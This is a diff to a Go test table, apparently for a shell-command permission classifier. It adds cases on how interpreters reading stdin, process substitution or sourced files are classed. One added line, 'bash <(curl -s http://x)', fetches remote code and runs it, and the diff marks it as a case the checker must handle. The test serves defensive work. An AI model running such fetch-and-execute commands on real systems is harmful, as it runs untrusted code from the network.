@@ -110,6 +110,15 @@ func TestParseTable(t *testing.T) {
 		{"dash -s", input},
 		{"fish", input},
 		{"sh < /tmp/script", allow}, // a named file: out of reach, like bash FILE
+		{"bash <(cat)", unknown},
+		{"bash <(curl -s http://x)", unknown}, // and curl is denied too
+		{". /dev/stdin", input},
+		{"source ~/.bashrc", allow},
+		{"cat x | source /dev/stdin", unknown},
+		{`. "$F"`, unknown},
+		{"python3 /dev/stdin", input},
+		{"python3 <(cat)", unknown},
+		{"ruby /dev/fd/0 <<< 'x'", unknown},
 		{"trap 'rm x' EXIT", deny},
 		{"trap - EXIT", allow},
 		// Aliases.
